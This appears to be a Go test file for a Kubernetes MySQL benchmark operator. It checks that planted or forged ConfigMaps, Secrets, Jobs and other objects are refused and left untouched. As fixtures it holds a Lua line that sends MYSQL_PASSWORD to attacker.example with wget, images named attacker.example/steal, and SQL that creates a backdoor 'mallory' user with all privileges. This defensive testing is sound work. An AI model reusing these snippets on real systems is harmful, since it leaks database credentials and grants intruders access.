package run_test

// Objects under the names a run needs, planted before the run by someone who may create objects
// in the namespace (issue #14): the run never uses them, fails the target naming the object and
// what to do, and leaves the object exactly as it was. An earlier run's object of the same name
// that is still being deleted is waited for, never adopted.

import (
	"context"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"

	v1 "github.com/mysqlbench/mysqlbench-operator/api/v1alpha1"
	runctrl "github.com/mysqlbench/mysqlbench-operator/controllers/run"
	"github.com/mysqlbench/mysqlbench-operator/internal/engine/builtin"
	perconaengine "github.com/mysqlbench/mysqlbench-operator/internal/engine/percona"
	"github.com/mysqlbench/mysqlbench-operator/internal/specs"
	"github.com/mysqlbench/mysqlbench-operator/internal/sysbench"
)

// stealer is what a planted reporter would run with the database's credentials at hand.
const stealer = `os.execute("wget -q -O- http://attacker.example/?" .. os.getenv("MYSQL_PASSWORD"))`

// plantedObjects are the objects of each kind a planted-object case creates, named after run.
func plantedObject(kind string, run *v1.BenchmarkRun, target string) client.Object {
	ns := run.Namespace
	server := specs.ServerName(run, target)
	podSpec := corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
		Containers: []corev1.Container{{Name: "c", Image: "attacker.example/steal:1"}}}
	switch kind {
	case "reporter ConfigMap":
		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: specs.ReporterConfigMapName(run), Namespace: ns},
			Data: map[string]string{sysbench.ReporterConfigMapKey: stealer}}
	case "results ConfigMap":
		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: specs.ResultsConfigMapName(run), Namespace: ns},
			Data: map[string]string{"report.md": "| Threads | fake |"}}
	case "connection Secret":
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: specs.ConnectionSecretName(run, target), Namespace: ns},
			StringData: map[string]string{sysbench.SecretKeyHost: "attacker.example", sysbench.SecretKeyPort: "3306",
				sysbench.SecretKeyUser: "root", sysbench.SecretKeyPassword: "known"}}
	case "server ConfigMap":
		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: server, Namespace: ns},
			Data: map[string]string{"my.cnf": "[mysqld]\ninit_file = /steal.sql\n"}}
	case "Service":
		return &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: server, Namespace: ns},
			Spec: corev1.ServiceSpec{ClusterIP: corev1.ClusterIPNone, Selector: map[string]string{"app": "steal"},
				Ports: []corev1.ServicePort{{Name: "mysql", Port: 3306}}}}
	case "StatefulSet":
		labels := map[string]string{"app": "steal"}
		podSpec.RestartPolicy = corev1.RestartPolicyAlways
		return &appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Name: server, Namespace: ns},
			Spec: appsv1.StatefulSetSpec{ServiceName: server, Selector: &metav1.LabelSelector{MatchLabels: labels},
				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podSpec}}}
	case "NetworkPolicy":
		// Admits everyone to the server.
		return &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Name: server, Namespace: ns},
			Spec: networkingv1.NetworkPolicySpec{PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"app": "steal"}},
				Ingress: []networkingv1.NetworkPolicyIngressRule{{}}}}
	case "step Job", "step Job with the operator's labels":
		job := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: specs.JobName(run, target, "probe", specs.Attempt{}), Namespace: ns},
			Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: podSpec}}}
		if kind == "step Job with the operator's labels" {
			// Visible to the operator's cache: its result would be read as the probe's.
			job.Labels = specs.ClientPodLabels(run, target, "probe")
		}
		return job
	}
	panic("unknown kind " + kind)
}

func kindOf(obj client.Object) string {
	switch obj.(type) {
	case *corev1.ConfigMap:
		return "ConfigMap"
	case *corev1.Secret:
		return "Secret"
	case *corev1.Service:
		return "Service"
	case *appsv1.StatefulSet:
		return "StatefulSet"
	case *batchv1.Job:
		return "Job"
	case *networkingv1.NetworkPolicy:
		return "NetworkPolicy"
	}
	return obj.GetObjectKind().GroupVersionKind().Kind
}

// untouched fails the test unless obj is still there as planted.
func untouched(t *testing.T, c client.Client, obj client.Object) {
	t.Helper()
	now := obj.DeepCopyObject().(client.Object)
	if err := c.Get(context.Background(), client.ObjectKeyFromObject(obj), now); err != nil {
		t.Errorf("planted %s %s: %v", kindOf(obj), obj.GetName(), err)
		return
	}
	if now.GetResourceVersion() != obj.GetResourceVersion() || now.GetDeletionTimestamp() != nil || len(now.GetOwnerReferences()) != len(obj.GetOwnerReferences()) {
		t.Errorf("planted %s %s was changed: resourceVersion %s -> %s, deletion %v, owners %v", kindOf(obj), obj.GetName(),
			obj.GetResourceVersion(), now.GetResourceVersion(), now.GetDeletionTimestamp(), now.GetOwnerReferences())
	}
}

// runJobs lists the Jobs of a run (by its label).
func runJobs(t *testing.T, c client.Client, run *v1.BenchmarkRun) []batchv1.Job {
	t.Helper()
	jobs := &batchv1.JobList{}
	if err := c.List(context.Background(), jobs, client.InNamespace(run.Namespace), client.MatchingLabels{specs.LabelRun: run.Name}); err != nil {
		t.Fatal(err)
	}
	var out []batchv1.Job
	for _, j := range jobs.Items {
		if metav1.GetControllerOf(&j) != nil {
			out = append(out, j)
		}
	}
	return out
}

// notPlanted leaves planted Jobs (those without a controller) alone and finishes the run's own.
func notPlanted(ok func(*batchv1.Job) outcome) func(*batchv1.Job) outcome {
	return func(job *batchv1.Job) outcome {
		if metav1.GetControllerOf(job) == nil {
			return outcome{pending: true}
		}
		return ok(job)
	}
}

func TestPlantedObjectsAreNeverUsed(t *testing.T) {
	ctx := context.Background()
	for i, kind := range []string{"reporter ConfigMap", "results ConfigMap", "connection Secret", "server ConfigMap",
		"Service", "NetworkPolicy", "StatefulSet", "step Job", "step Job with the operator's labels"} {
		t.Run(kind, func(t *testing.T) {
			ns := newNamespace(t)
			run := baseRun(ns, "planted"+string(rune('a'+i)), 1)
			run.Spec.Targets = run.Spec.Targets[:1]
			// The failed target's server is torn down: the teardown must not take the planted
			// object with it.
			run.Spec.Cleanup = v1.CleanupAlways
			planted := plantedObject(kind, run, run.Spec.Targets[0].Name)
			if err := k8s.Create(ctx, planted); err != nil {
				t.Fatal(err)
			}
			want := kindOf(planted) + " " + ns + "/" + planted.GetName() + " already exists and does not belong to this run"
			startOperator(t, ns, operatorOptions{})
			startKubelet(t, ns, notPlanted(succeedAll(t)))
			if err := k8s.Create(ctx, run); err != nil {
				t.Fatal(err)
			}
			got := waitFor(t, ns, run.Name, 20*time.Second, "the run to fail", finished)
			ts := got.Status.Targets[0]
			if got.Status.Phase != v1.RunFailed || ts.Phase != v1.TargetFailed || !strings.Contains(ts.Message, want) ||
				!strings.Contains(ts.Message, "delete it, or rename the run or the target") {
				t.Fatalf("run %s, target %s %q: want both Failed naming %q and what to do", got.Status.Phase, ts.Phase, ts.Message, want)
			}
			if c := meta.FindStatusCondition(got.Status.Conditions, v1.ConditionFailed); c == nil || !strings.Contains(c.Message, want) {
				t.Errorf("Failed condition %+v does not name the planted object", c)
			}
			untouched(t, k8s, planted)
			switch kind {
			case "reporter ConfigMap", "results ConfigMap":
				// Nothing ran: no server, no Job.
				err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: specs.ServerName(run, "mariadb")}, &appsv1.StatefulSet{})
				if !apierrors.IsNotFound(err) {
					t.Errorf("a server was provisioned (err %v) although the run's %s is not its own", err, kind)
				}
				if jobs := runJobs(t, k8s, run); len(jobs) != 0 {
					t.Errorf("%d Jobs created, want none", len(jobs))
				}
			case "NetworkPolicy", "StatefulSet":
				// The server never started: the StatefulSet comes after the policy.
				err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: specs.ServerName(run, "mariadb")}, &appsv1.StatefulSet{})
				if kind == "NetworkPolicy" && !apierrors.IsNotFound(err) {
					t.Errorf("a server was provisioned (err %v) although the NetworkPolicy under its name is not the run's", err)
				}
			case "step Job", "step Job with the operator's labels":
				if jobs := runJobs(t, k8s, run); len(jobs) != 0 {
					t.Errorf("%d Jobs created besides the planted one, want none", len(jobs))
				}
			}
			if kind == "results ConfigMap" {
				ready := meta.FindStatusCondition(got.Status.Conditions, v1.ConditionReady)
				if got.Status.ResultsConfigMap != "" || ready == nil || !strings.Contains(ready.Message, "the results were not written") {
					t.Errorf("resultsConfigMap %q, Ready %+v: want no results ConfigMap named and the reason in Ready",
						got.Status.ResultsConfigMap, ready)
				}
			}
		})
	}
}

// A reporter that claims to belong to the run (an owner reference anyone can write) but holds
// another script is never executed: the content is checked before every Job.
func TestForgedReporterIsNeverExecuted(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	run := baseRun(ns, "forged", 1)
	run.Spec.Targets = run.Spec.Targets[:1]
	if err := k8s.Create(ctx, run); err != nil {
		t.Fatal(err)
	}
	got := getRun(t, k8s, run)
	forged := plantedObject("reporter ConfigMap", run, "mariadb").(*corev1.ConfigMap)
	forged.Labels = specs.RunLabels(run)
	forged.OwnerReferences = []metav1.OwnerReference{*metav1.NewControllerRef(got, v1.GroupVersion.WithKind("BenchmarkRun"))}
	forged.Immutable = ptr.To(true)
	if err := k8s.Create(ctx, forged); err != nil {
		t.Fatal(err)
	}
	startOperator(t, ns, operatorOptions{})
	startKubelet(t, ns, succeedAll(t))
	got = waitFor(t, ns, run.Name, 20*time.Second, "the run to fail", finished)
	ts := got.Status.Targets[0]
	want := "ConfigMap " + ns + "/" + forged.Name + ", the reporter every sysbench Job of this run executes, does not hold exactly the operator's script"
	if ts.Phase != v1.TargetFailed || !strings.Contains(ts.Message, want) {
		t.Fatalf("target %s %q: want Failed with %q", ts.Phase, ts.Message, want)
	}
	if jobs := runJobs(t, k8s, run); len(jobs) != 0 {
		t.Errorf("%d Jobs created, want none: each would execute the forged reporter", len(jobs))
	}
	untouched(t, k8s, forged)
}

// The server's ConfigMap (my.cnf, and the SQL the server runs as root on its first start) and its
// credentials Secret that claim to belong to the run, with the run's UID in their controller
// reference (anyone who may read the run and create ConfigMaps or Secrets can write one), but hold
// something else: the target fails naming the object, before any server is created.
func TestForgedServerObjectsAreNeverUsed(t *testing.T) {
	ctx := context.Background()
	for i, kind := range []string{"server ConfigMap", "connection Secret"} {
		t.Run(kind, func(t *testing.T) {
			ns := newNamespace(t)
			run := baseRun(ns, "forged"+string(rune('a'+i)), 1)
			run.Spec.Targets = run.Spec.Targets[:1]
			if err := k8s.Create(ctx, run); err != nil {
				t.Fatal(err)
			}
			got := getRun(t, k8s, run)
			forged := plantedObject(kind, run, "mariadb")
			forged.SetLabels(specs.TargetLabels(run, "mariadb"))
			forged.SetOwnerReferences([]metav1.OwnerReference{*metav1.NewControllerRef(got, v1.GroupVersion.WithKind("BenchmarkRun"))})
			if cm, ok := forged.(*corev1.ConfigMap); ok {
				// What the operator writes, with one more statement in the SQL the server runs as root.
				want, err := builtin.ConfigMap(got, got.Spec.Targets[0])
				if err != nil {
					t.Fatal(err)
				}
				cm.Data = want.Data
				cm.Data[builtin.GrantsKey] += "CREATE USER 'mallory'@'%' IDENTIFIED BY 'known'; GRANT ALL ON *.* TO 'mallory'@'%';\n"
			}
			if err := k8s.Create(ctx, forged); err != nil {
				t.Fatal(err)
			}
			startOperator(t, ns, operatorOptions{})
			startKubelet(t, ns, succeedAll(t))
			got = waitFor(t, ns, run.Name, 20*time.Second, "the run to fail", finished)
			ts := got.Status.Targets[0]
			want := kindOf(forged) + " " + ns + "/" + forged.GetName() + ", "
			if ts.Phase != v1.TargetFailed || !strings.Contains(ts.Message, want) ||
				!strings.Contains(ts.Message, "does not hold what the operator writes for this run") ||
				!strings.Contains(ts.Message, "delete it and create the run again") {
				t.Fatalf("target %s %q: want Failed naming %q, what is wrong and what to do", ts.Phase, ts.Message, want)
			}
			if strings.Contains(ts.Message, "known") || strings.Contains(ts.Message, "attacker.example") {
				t.Errorf("the message quotes the forged content: %q", ts.Message)
			}
			err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: specs.ServerName(run, "mariadb")}, &appsv1.StatefulSet{})
			if !apierrors.IsNotFound(err) {
				t.Errorf("a server was created (err %v) with the forged %s", err, kind)
			}
			if jobs := runJobs(t, k8s, run); len(jobs) != 0 {
				t.Errorf("%d Jobs created, want none", len(jobs))
			}
		})
	}
}

// The reporter the operator writes cannot be changed afterwards.
func TestReporterIsImmutable(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	startOperator(t, ns, operatorOptions{})
	startKubelet(t, ns, succeedAll(t))
	run := baseRun(ns, "immutable", 1)
	run.Spec.Targets = run.Spec.Targets[:1]
	if err := k8s.Create(ctx, run); err != nil {
		t.Fatal(err)
	}
	got := waitFor(t, ns, run.Name, 30*time.Second, "the run to finish", finished)
	if got.Status.Phase != v1.RunSucceeded {
		t.Fatalf("phase %s: %+v", got.Status.Phase, got.Status.Targets)
	}
	cm := &corev1.ConfigMap{}
	if err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: specs.ReporterConfigMapName(run)}, cm); err != nil {
		t.Fatal(err)
	}
	if cm.Immutable == nil || !*cm.Immutable || cm.Data[sysbench.ReporterConfigMapKey] != sysbench.ReporterScript() {
		t.Fatalf("reporter immutable=%v, want true with the operator's script", cm.Immutable)
	}
	cm.Data[sysbench.ReporterConfigMapKey] = stealer
	if err := k8s.Update(ctx, cm); !apierrors.IsInvalid(err) {
		t.Errorf("changing the reporter: %v, want the API server to refuse it", err)
	}
}

// GitOps tools delete a run and create it again under the same name: the earlier run's objects
// may still be going away. The new run waits for them, saying so, and never adopts them.
func TestEarlierRunsObjectIsWaitedFor(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	run := baseRun(ns, "again", 1)
	run.Spec.Targets = run.Spec.Targets[:1]
	const hold = "example.com/hold"
	earlier := plantedObject("reporter ConfigMap", run, "mariadb").(*corev1.ConfigMap)
	earlier.Data = map[string]string{sysbench.ReporterConfigMapKey: "-- the earlier run's"}
	earlier.Labels = specs.RunLabels(run)
	earlier.Finalizers = []string{hold}
	earlier.OwnerReferences = []metav1.OwnerReference{{APIVersion: v1.GroupVersion.String(), Kind: "BenchmarkRun",
		Name: run.Name, UID: "00000000-0000-4000-8000-0000000000e1", Controller: ptr.To(true), BlockOwnerDeletion: ptr.To(true)}}
	if err := k8s.Create(ctx, earlier); err != nil {
		t.Fatal(err)
	}
	if err := k8s.Delete(ctx, earlier); err != nil {
		t.Fatal(err)
	}
	startOperator(t, ns, operatorOptions{})
	startKubelet(t, ns, succeedAll(t))
	if err := k8s.Create(ctx, run); err != nil {
		t.Fatal(err)
	}
	want := "waiting for ConfigMap " + ns + "/" + earlier.Name + " of an earlier run to be deleted"
	waitFor(t, ns, run.Name, 15*time.Second, "the run to say what it waits for", func(r *v1.BenchmarkRun) bool {
		c := meta.FindStatusCondition(r.Status.Conditions, v1.ConditionProgressing)
		return c != nil && strings.Contains(c.Message, want) && strings.Contains(c.Message, hold)
	})
	// It goes on waiting, adopting nothing.
	time.Sleep(2 * time.Second)
	cm := &corev1.ConfigMap{}
	if err := k8s.Get(ctx, client.ObjectKeyFromObject(earlier), cm); err != nil {
		t.Fatal(err)
	}
	if got := getRun(t, k8s, run); got.Status.Targets[0].Phase != v1.TargetPending || metav1.IsControlledBy(cm, got) {
		t.Fatalf("target %s, reporter owners %v: want the target to wait and the earlier object not adopted",
			got.Status.Targets[0].Phase, cm.OwnerReferences)
	}
	if jobs := runJobs(t, k8s, run); len(jobs) != 0 {
		t.Fatalf("%d Jobs created while the earlier run's reporter exists", len(jobs))
	}
	// The earlier object goes; the run writes its own and runs.
	cm.Finalizers = nil
	if err := k8s.Update(ctx, cm); err != nil {
		t.Fatal(err)
	}
	got := waitFor(t, ns, run.Name, 30*time.Second, "the run to finish", finished)
	if got.Status.Phase != v1.RunSucceeded {
		t.Fatalf("phase %s: %+v", got.Status.Phase, got.Status.Targets)
	}
	cm = &corev1.ConfigMap{}
	if err := k8s.Get(ctx, client.ObjectKeyFromObject(earlier), cm); err != nil || !metav1.IsControlledBy(cm, got) ||
		cm.Data[sysbench.ReporterConfigMapKey] != sysbench.ReporterScript() {
		t.Errorf("reporter after the wait (err %v): owners %v, want the run's own with the operator's script", err, cm.OwnerReferences)
	}
}

// A deleted run whose external target holds tables never runs a planted Job under its drop Job's
// name: the finalizer goes at once with an Event that names the Job, instead of waiting for a
// result the planted Job would fake.
func TestPlantedDropJobIsNeverUsed(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	startOperator(t, ns, operatorOptions{})
	ok := succeedAll(t)
	startKubelet(t, ns, notPlanted(func(job *batchv1.Job) outcome {
		if job.Labels[specs.LabelStep] == "s01" {
			return outcome{pending: true} // the run is deleted during step 1
		}
		return ok(job)
	}))
	run := externalRun(t, ns, "extplant")
	if err := k8s.Create(ctx, run); err != nil {
		t.Fatal(err)
	}
	waitFor(t, ns, run.Name, 30*time.Second, "step 1 with the finalizer in place", func(r *v1.BenchmarkRun) bool {
		return r.Status.Phase == v1.RunRunning && controllerutil.ContainsFinalizer(r, runctrl.ExternalCleanupFinalizer)
	})
	planted := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: specs.JobName(run, "prod", "drop", specs.Attempt{}), Namespace: ns},
		Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
			Containers: []corev1.Container{{Name: "c", Image: "attacker.example/steal:1"}}}}}}
	if err := k8s.Create(ctx, planted); err != nil {
		t.Fatal(err)
	}
	if err := k8s.Delete(ctx, run); err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(15 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		err := k8s.Get(ctx, client.ObjectKeyFromObject(run), &v1.BenchmarkRun{})
		if apierrors.IsNotFound(err) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the run is still there 15s after its deletion (err %v)", err)
		}
	}
	want := "Job " + ns + "/" + planted.Name + " already exists and does not belong to this run"
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		events := &corev1.EventList{}
		if err := k8s.List(ctx, events, client.InNamespace(ns)); err != nil {
			t.Fatal(err)
		}
		found := false
		for _, e := range events.Items {
			found = found || e.Reason == "CleanupFailed" && strings.Contains(e.Message, want)
		}
		if found {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no CleanupFailed Event naming %q", want)
		}
	}
	untouched(t, k8s, planted)
}

// The Percona engines' objects under planted names: the PerconaServerMySQL itself and the Secret
// with the Percona operator's system users.
func TestPlantedPerconaObjectsAreNeverUsed(t *testing.T) {
	restCfg, c := perconaAPI(t)
	ctx := context.Background()
	for _, kind := range []string{"PerconaServerMySQL", "users Secret"} {
		t.Run(kind, func(t *testing.T) {
			ns := perconaNamespace(t, c, "percona-planted-"+strings.ToLower(strings.ReplaceAll(kind, " ", "-")))
			target := v1.Target{Name: "ps84", Engine: v1.EnginePerconaServer}
			run := perconaRun(ns, "planted", target)
			run.Spec.Cleanup = v1.CleanupAlways
			var planted client.Object
			switch kind {
			case "PerconaServerMySQL":
				u, err := perconaengine.PerconaServerMySQL(run, target)
				if err != nil {
					t.Fatal(err)
				}
				u.SetFinalizers(nil)
				u.SetLabels(nil)
				planted = u
			case "users Secret":
				planted = &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: perconaengine.UsersSecretName(run, target.Name), Namespace: ns},
					StringData: map[string]string{"root": "known"}}
			}
			if err := c.Create(ctx, planted); err != nil {
				t.Fatal(err)
			}
			startOperator(t, ns, operatorOptions{restConfig: restCfg})
			startKubeletOn(t, c, ns, notPlanted(succeedAll(t)))
			fakePercona(t, c, ns, perconaengine.PerconaServerMySQLKind, func(u *unstructured.Unstructured) map[string]any {
				if metav1.GetControllerOf(u) == nil {
					return nil // the planted one is left alone
				}
				return map[string]any{"state": "ready", "host": u.GetName() + "-mysql-primary." + ns}
			})
			if err := c.Create(ctx, run); err != nil {
				t.Fatal(err)
			}
			got := waitForOn(t, c, ns, run.Name, 30*time.Second, "the run to fail", finished)
			kindName := "PerconaServerMySQL"
			if kind == "users Secret" {
				kindName = "Secret"
			}
			want := kindName + " " + ns + "/" + planted.GetName() + " already exists and does not belong to this run"
			if ts := got.Status.Targets[0]; ts.Phase != v1.TargetFailed || !strings.Contains(ts.Message, want) {
				t.Fatalf("target %s %q: want Failed with %q", ts.Phase, ts.Message, want)
			}
			untouched(t, c, planted)
			if jobs := runJobs(t, c, run); len(jobs) != 0 {
				t.Errorf("%d Jobs created, want none", len(jobs))
			}
		})
	}
}
